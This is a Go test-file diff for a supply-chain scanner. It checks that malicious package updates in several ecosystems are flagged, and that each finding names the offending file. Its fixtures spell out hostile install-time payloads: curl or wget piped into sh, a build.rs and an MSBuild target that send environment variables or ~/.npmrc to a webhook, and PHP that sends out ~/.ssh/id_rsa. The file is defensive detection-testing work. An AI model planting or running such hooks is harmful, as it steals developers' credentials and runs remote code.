@@ -162,6 +162,8 @@ type ecoCase struct {
 	registry bool // the registry client names the URL and digest
 	old, bad files
 	want     string
+	// file is the file of bad the finding names.
+	file string
 }
 
 const (
@@ -184,7 +186,7 @@ func ecoCases() []ecoCase {
 		},
 		old:  files{"setup.py": pyBenign, "foo/__init__.py": "x = 1\n"},
 		bad:  files{"setup.py": "from setuptools import setup\nimport base64\nexec(base64.b64decode('aW1wb3J0IG9z'))\n" + pyBenign[len("from setuptools import setup\n"):], "foo/__init__.py": "x = 1\n"},
-		want: "install-script-capability critical",
+		want: "install-script-capability critical", file: "setup.py",
 	}, {
 		eco: lockfiles.EcosystemPyPI, name: "bar",
 		build: func(t *testing.T, v string, fs files, rb bool) []byte { return buildZip(t, "", fs, rb) },
@@ -195,7 +197,7 @@ func ecoCases() []ecoCase {
 		},
 		old:  files{"bar/__init__.py": "x = 1\n", "bar-1.0.dist-info/METADATA": "Name: bar\n"},
 		bad:  files{"bar/__init__.py": "x = 1\n", "bar-1.0.dist-info/METADATA": "Name: bar\n", "bar_init.pth": "import os; os.system('curl -s https://x.example/i | sh')\n"},
-		want: "install-script-capability high",
+		want: "install-script-capability high", file: "bar_init.pth",
 	}, {
 		eco: lockfiles.EcosystemRubyGems, name: "rgem",
 		build: func(t *testing.T, v string, fs files, rb bool) []byte { return buildGem(t, fs, rb) },
@@ -206,7 +208,7 @@ func ecoCases() []ecoCase {
 		},
 		old:  files{"metadata": "name: rgem\nextensions:\n- ext/rgem/extconf.rb\n", "lib/rgem.rb": "1\n", "ext/rgem/extconf.rb": "require 'mkmf'\ncreate_makefile('rgem')\n"},
 		bad:  files{"metadata": "name: rgem\nextensions:\n- ext/rgem/extconf.rb\n", "lib/rgem.rb": "1\n", "ext/rgem/extconf.rb": "require 'mkmf'\nsystem('make')\nsystem('curl -s https://x.example/i | sh')\ncreate_makefile('rgem')\n"},
-		want: "install-script-capability high",
+		want: "install-script-capability high", file: "ext/rgem/extconf.rb",
 	}, {
 		eco: lockfiles.EcosystemNuGet, name: "Acme.Tool", registry: true, base: "nuget",
 		build: func(t *testing.T, v string, fs files, rb bool) []byte { return buildZip(t, "", fs, rb) },
@@ -217,7 +219,7 @@ func ecoCases() []ecoCase {
 		},
 		old:  files{"Acme.Tool.nuspec": "<package/>\n", "build/Acme.Tool.targets": "<Project>\n  <PropertyGroup><X>1</X></PropertyGroup>\n</Project>\n", "lib/net8.0/Acme.Tool.xml": "<doc/>\n"},
 		bad:  files{"Acme.Tool.nuspec": "<package/>\n", "build/Acme.Tool.targets": "<Project>\n  <PropertyGroup><X>1</X></PropertyGroup>\n  <Target Name=\"X\" BeforeTargets=\"Build\"><Exec Command=\"curl -s -d @$(HOME)/.npmrc " + discord + "\" /></Target>\n</Project>\n", "lib/net8.0/Acme.Tool.xml": "<doc/>\n"},
-		want: "install-script-capability critical",
+		want: "install-script-capability critical", file: "build/Acme.Tool.targets",
 	}, {
 		eco: lockfiles.EcosystemCrates, name: "crab", base: "crates",
 		build: func(t *testing.T, v string, fs files, rb bool) []byte {
@@ -230,7 +232,7 @@ func ecoCases() []ecoCase {
 		},
 		old:  files{"Cargo.toml": "[package]\nname = \"crab\"\nbuild = \"build.rs\"\n", "build.rs": "fn main() { cc::Build::new().file(\"x.c\").compile(\"x\"); }\n", "src/lib.rs": "pub fn f() {}\n"},
 		bad:  files{"Cargo.toml": "[package]\nname = \"crab\"\nbuild = \"build.rs\"\n", "build.rs": "fn main() { cc::Build::new().file(\"x.c\").compile(\"x\");\n let e: Vec<_> = std::env::vars().collect();\n reqwest::blocking::Client::new().post(\"" + discord + "\").body(format!(\"{:?}\", e)).send().ok(); }\n", "src/lib.rs": "pub fn f() {}\n"},
-		want: "install-script-capability critical",
+		want: "install-script-capability critical", file: "build.rs",
 	}, {
 		eco: lockfiles.EcosystemGo, name: "example.com/gopher", base: "go",
 		build: func(t *testing.T, v string, fs files, rb bool) []byte {
@@ -243,7 +245,7 @@ func ecoCases() []ecoCase {
 		},
 		old:  files{"go.mod": "module example.com/gopher\n", "gopher.go": "package gopher\n\nfunc F() {}\n"},
 		bad:  files{"go.mod": "module example.com/gopher\n", "gopher.go": "package gopher\n\nfunc F() {}\n", "init.go": "package gopher\n\nimport \"os/exec\"\n\nfunc init() { exec.Command(\"/bin/sh\", \"-c\", \"wget -O - http://45.61.1.1/x | sh\").Start() }\n"},
-		want: "capability-with-threat critical",
+		want: "capability-with-threat critical", file: "init.go",
 	}, {
 		eco: lockfiles.EcosystemPackagist, name: "acme/widget",
 		build: func(t *testing.T, v string, fs files, rb bool) []byte {
@@ -256,7 +258,7 @@ func ecoCases() []ecoCase {
 		},
 		old:  files{"composer.json": "{}\n", "src/Widget.php": "<?php\nclass Widget {}\n"},
 		bad:  files{"composer.json": "{}\n", "src/Widget.php": "<?php\nclass Widget {}\n", "src/boot.php": "<?php\n$o = shell_exec('cat ~/.ssh/id_rsa');\nfile_get_contents('" + discord + "?d=' . urlencode($o));\n"},
-		want: "capability-with-threat critical",
+		want: "capability-with-threat critical", file: "src/boot.php",
 	}}
 }
 
@@ -305,9 +307,10 @@ func TestEcosystems(t *testing.T) {
 				return c.packages(t.Context(), &scanner.Input{Mode: scanner.ModePullRequest, Changes: []lockfiles.Change{{Kind: lockfiles.ChangeUpdated, Package: p, Previous: &prev}}})
 			}
 			got, skipped := run(badPkg)
-			if len(skipped) != 0 || len(got) != 1 || got[0].RuleID+" "+got[0].Severity != tc.want {
+			if len(skipped) != 0 || len(got) != 1 || got[0].RuleID+" "+got[0].Severity != tc.want || !strings.HasPrefix(got[0].Evidence, tc.file+": ") {
 				t.Fatalf("malicious update: %s, skipped %+v", summarise(got), skipped)
 			}
+			t.Log(got[0].Message)
 			label := labels[tc.eco]
 			if !strings.HasPrefix(got[0].Message, label+" "+tc.name+" "+badPkg.Version+" (updated from "+oldPkg.Version+") adds ") || strings.Contains(got[0].Message, "TOKENTOKENTOKEN") {
 				t.Errorf("message %q", got[0].Message)
